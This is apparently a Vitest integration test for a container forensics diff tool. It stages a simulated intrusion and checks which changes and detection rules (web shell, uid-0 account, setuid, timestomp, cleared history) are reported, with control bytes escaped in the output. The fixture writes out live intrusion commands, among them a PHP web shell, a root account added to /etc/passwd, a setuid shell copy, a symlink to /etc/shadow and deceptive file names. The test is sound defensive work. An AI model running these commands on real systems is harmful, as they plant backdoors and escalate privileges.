// Given a suspect started from a two-layer image (a whiteout and an opaque folder in the upper layer), the diff is exact.
import { Command } from 'commander';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { registerDiff } from '../../src/cli/commands/diff.js';
import type { DiffEntry } from '../../src/forensics/common/diff-model.js';
import { docker } from '../support/docker-cli.js';
import {
  buildLayeredImage,
  call,
  removeImage,
  removeScene,
  stageScene,
  UPPER_LAYER_SCRIPT,
  type Scene,
} from './diff-rig.js';

/** The intruder's steps in a container of the layered image; the last lines plant hostile names. */
const INTRUSION = [
  'set -e',
  "mkdir -p /tmp/.x && printf 'xmrig' > /tmp/.x/miner && chmod +x /tmp/.x/miner",
  'cp /bin/busybox /usr/bin/sbx && chmod u+s /usr/bin/sbx',
  "echo 'toor:x:0:0:root:/root:/bin/sh' >> /etc/passwd",
  'rm /root/.ash_history',
  'rm /usr/bin/nc',
  "echo v2 >> /opt/app/config && touch -d '2020-01-01 00:00:00' /opt/app/config",
  'chmod 0600 /var/www/html/index.html',
  'echo \'<?php system($_GET["c"]); ?>\' > /var/www/html/x.php',
  'rm /usr/sbin/tool && ln -s /etc/shadow /usr/sbin/tool',
  'mkfifo /tmp/.x/pipe',
  'mknod /tmp/.x/mem c 1 1',
  'mkdir -p /tmp/h',
  'touch "/tmp/h/$(printf \'a\\033[31mred\')"',
  'touch "/tmp/h/$(printf \'bad\\377name\')"',
  'touch "/tmp/h/$(printf \'new\\nline\')"',
  'touch "/tmp/h/$(printf \'\\342\\200\\256gpj.exe\')"',
].join('\n');

const b64 = (latin1: string) => Buffer.from(latin1, 'latin1').toString('base64');

describe('diff of a suspect from a two-layer image', () => {
  let image: { imageId: string; reference: string } | undefined;
  let scene: Scene | undefined;
  let entries: DiffEntry[] = [];
  let diffIds: string[] = [];

  beforeAll(async () => {
    image = await buildLayeredImage();
    diffIds = JSON.parse(
      await docker(['image', 'inspect', '-f', '{{json .RootFS.Layers}}', image.imageId]),
    ) as string[];
    scene = await stageScene('layered', image.reference, INTRUSION);
    await scene.service.diff({ caseDir: scene.caseDir, rebuild: false }, call());
    entries = (await scene.service.diffEntries({ caseDir: scene.caseDir, offset: 0, limit: 5000 }, call())).entries;
  }, 240_000);
  afterAll(async () => {
    await removeScene(scene);
    await removeImage(image?.reference);
  });

  const entry = (path: string) => entries.find((candidate) => candidate.path === path);

  it('then the entries are exactly the intruder’s changes, in byte order of the raw paths', () => {
    expect(entries.map((e) => [e.path, e.change])).toEqual([
      ['etc/passwd', 'modified'],
      ['opt/app/config', 'modified'],
      ['root/.ash_history', 'deleted'],
      ['tmp/.x', 'added'],
      ['tmp/.x/mem', 'added'],
      ['tmp/.x/miner', 'added'],
      ['tmp/.x/pipe', 'added'],
      ['tmp/h', 'added'],
      ['tmp/h/a\\x1b[31mred', 'added'],
      ['tmp/h/bad\\xffname', 'added'],
      ['tmp/h/new\\nline', 'added'],
      ['tmp/h/\\u{202e}gpj.exe', 'added'],
      ['usr/bin/nc', 'deleted'],
      ['usr/bin/sbx', 'added'],
      ['usr/sbin/tool', 'type'],
      ['var/www/html/index.html', 'metadata'],
      ['var/www/html/x.php', 'added'],
    ]);
  });

  it('then each original path names the layer that last wrote it, with the instruction that made the upper layer', () => {
    const base = { index: 0, digest: diffIds[0] };
    const upper = { index: 1, digest: diffIds[1], createdBy: `sh -c ${UPPER_LAYER_SCRIPT}` };
    expect(diffIds).toHaveLength(2);
    expect(entry('etc/passwd')?.layer).toEqual(base);
    expect(entry('usr/bin/nc')?.layer).toEqual(base);
    expect(entry('opt/app/config')?.layer).toEqual(upper);
    expect(entry('root/.ash_history')?.layer).toEqual(upper);
    expect(entry('usr/sbin/tool')?.layer).toEqual(upper);
    expect(entry('var/www/html/index.html')?.layer).toEqual(upper);
    expect(entry('usr/bin/sbx')?.layer).toBeUndefined();
  });

  it('then the image view honours the upper layer’s whiteout and opaque folder', async () => {
    const list = async (dir: string) =>
      (
        await scene!.service.listDirectory(
          { caseDir: scene!.caseDir, side: 'image', pathBase64: b64(dir), offset: 0, limit: 5000 },
          call(),
        )
      ).entries.map((child) => child.name);
    const usrBin = await list('usr/bin');
    expect(usrBin).not.toContain('wget');
    expect(usrBin).toContain('nc');
    expect(usrBin).not.toContain('.wh.wget');
    expect(await list('usr/sbin')).toEqual(['tool']);
    const baseSbin = await docker(['run', '--rm', '--network', 'none', 'holdcell-test/busybox:1', 'ls', '/usr/sbin']);
    expect(baseSbin.split(/\s+/).filter(Boolean).length).toBeGreaterThan(1);
  });

  it('then links, devices and fifos are compared as what they are, never followed or opened', async () => {
    expect(entry('usr/sbin/tool')?.before).toMatchObject({ type: 'file', size: 5 });
    expect(entry('usr/sbin/tool')?.after).toMatchObject({ type: 'symlink', linkTarget: '/etc/shadow' });
    expect(entry('usr/bin/nc')?.before).toMatchObject({ type: 'symlink', linkTarget: '/bin/busybox' });
    expect(entry('tmp/.x/mem')?.after).toMatchObject({ type: 'char', devMajor: 1, devMinor: 1 });
    expect(entry('tmp/.x/pipe')?.after).toMatchObject({ type: 'fifo' });
    await expect(
      scene!.service.readFile(
        { caseDir: scene!.caseDir, side: 'container', pathBase64: b64('usr/sbin/tool'), offset: 0, length: 100 },
        call(),
      ),
    ).rejects.toThrow(/\/usr\/sbin\/tool \(→ \/etc\/shadow\) is a symbolic link/);
    await expect(
      scene!.service.readFile(
        { caseDir: scene!.caseDir, side: 'container', pathBase64: b64('tmp/.x/mem'), offset: 0, length: 100 },
        call(),
      ),
    ).rejects.toThrow(/character device/);
    const tool = await scene!.service.readFile(
      { caseDir: scene!.caseDir, side: 'image', pathBase64: b64('usr/sbin/tool'), offset: 0, length: 100 },
      call(),
    );
    expect(Buffer.from(tool.base64, 'base64').toString()).toBe('tool\n');
    const history = await scene!.service.readFile(
      { caseDir: scene!.caseDir, side: 'image', pathBase64: b64('root/.ash_history'), offset: 0, length: 100 },
      call(),
    );
    expect(Buffer.from(history.base64, 'base64').toString()).toBe('ls -la\n');
  });

  it('then the findings are the expected rules, and nothing else fires (busybox has no package database)', () => {
    expect(Object.fromEntries(entries.map((e) => [e.path, e.findings.map((finding) => finding.rule)]))).toEqual({
      'etc/passwd': ['new-uid0-account', 'account-files-changed'],
      'opt/app/config': ['timestomp'],
      'root/.ash_history': ['shell-history-cleared'],
      'tmp/.x': [],
      'tmp/.x/mem': [],
      'tmp/.x/miner': ['executable-in-temp', 'executable-in-hidden-dir'],
      'tmp/.x/pipe': [],
      'tmp/h': [],
      'tmp/h/a\\x1b[31mred': [],
      'tmp/h/bad\\xffname': [],
      'tmp/h/new\\nline': [],
      'tmp/h/\\u{202e}gpj.exe': [],
      'usr/bin/nc': [],
      'usr/bin/sbx': ['setuid-setgid-added'],
      'usr/sbin/tool': [],
      'var/www/html/index.html': [],
      'var/www/html/x.php': ['web-shell'],
    });
    expect(entry('usr/bin/sbx')?.findings[0]).toMatchObject({ severity: 'critical', attack: 'T1548.001' });
    expect(entry('root/.ash_history')?.findings[0]).toMatchObject({ severity: 'high', attack: 'T1070.003' });
    expect(entries.every((e) => e.package === undefined)).toBe(true);
  });

  it('then paged queries filter by change, severity, text and folder', async () => {
    const query = (input: Record<string, unknown>) =>
      scene!.service.diffEntries({ caseDir: scene!.caseDir, offset: 0, limit: 500, ...input }, call());
    expect((await query({ changes: ['deleted'] })).entries.map((e) => e.path)).toEqual([
      'root/.ash_history',
      'usr/bin/nc',
    ]);
    expect((await query({ minSeverity: 'critical' })).entries.map((e) => e.path)).toEqual([
      'etc/passwd',
      'usr/bin/sbx',
    ]);
    expect((await query({ query: 'GPJ' })).entries.map((e) => e.path)).toEqual(['tmp/h/\\u{202e}gpj.exe']);
    expect((await query({ underBase64: b64('tmp/.x') })).total).toBe(3);
    const page = await query({ limit: 5, offset: 5 });
    expect(page).toMatchObject({ total: 17, nextOffset: 10 });
    expect(page.entries.map((e) => e.path)).toEqual(entries.slice(5, 10).map((e) => e.path));
  });

  it('then `holdcell diff --json` prints { entries, summary } with escaped paths and the raw bytes of hostile ones', async () => {
    let out = '';
    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
      out += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
      return true;
    });
    try {
      const program = new Command().exitOverride();
      registerDiff(program);
      await program.parseAsync(['diff', scene!.caseDir, '--json'], { from: 'user' });
    } finally {
      write.mockRestore();
    }
    expect(process.exitCode ?? 0).toBe(0);
    const printed = JSON.parse(out) as { entries: Record<string, unknown>[]; summary: Record<string, unknown> };
    expect(Object.keys(printed)).toEqual(['entries', 'summary']);
    expect(printed.entries).toHaveLength(17);
    const allowed = ['path', 'pathBase64', 'change', 'before', 'after', 'layer', 'package', 'findings'];
    for (const printedEntry of printed.entries) {
      expect(typeof printedEntry['path']).toBe('string');
      expect(Array.isArray(printedEntry['findings'])).toBe(true);
      expect(Object.keys(printedEntry).filter((key) => !allowed.includes(key))).toEqual([]);
      for (const finding of printedEntry['findings'] as Record<string, unknown>[]) {
        expect(typeof finding['rule'] + typeof finding['severity'] + typeof finding['attack']).toBe(
          'stringstringstring',
        );
      }
    }
    const hostile = printed.entries.filter((e) => String(e['path']).startsWith('tmp/h/'));
    expect(hostile.map((e) => [e['path'], e['pathBase64']])).toEqual([
      ['tmp/h/a\\x1b[31mred', b64('tmp/h/a\x1b[31mred')],
      ['tmp/h/bad\\xffname', b64('tmp/h/bad\xffname')],
      ['tmp/h/new\\nline', b64('tmp/h/new\nline')],
      ['tmp/h/\\u{202e}gpj.exe', b64('tmp/h/\xe2\x80\xaegpj.exe')],
    ]);
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(printed.entries.find((e) => e['path'] === 'etc/passwd')).not.toHaveProperty('pathBase64');
    expect(printed.summary).toMatchObject({
      containerId: scene!.containerId,
      counts: { added: 11, deleted: 2, modified: 2, metadata: 1, type: 1 },
      caseDir: scene!.caseDir,
    });
  });

  it('then the text output is a table with counts and findings, and no raw control byte reaches the terminal', async () => {
    let out = '';
    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
      out += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
      return true;
    });
    try {
      const program = new Command().exitOverride();
      registerDiff(program);
      await program.parseAsync(['diff', scene!.caseDir], { from: 'user' });
    } finally {
      write.mockRestore();
    }
    expect(out).toMatch(/changes: 11 added, 2 deleted, 2 modified, 1 metadata, 1 type/);
    expect(out).toMatch(/\/tmp\/h\/a\\x1b\[31mred/);
    expect(out).toMatch(/\[critical\] setuid-setgid-added T1548\.001 \/usr\/bin\/sbx/);
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  });
});
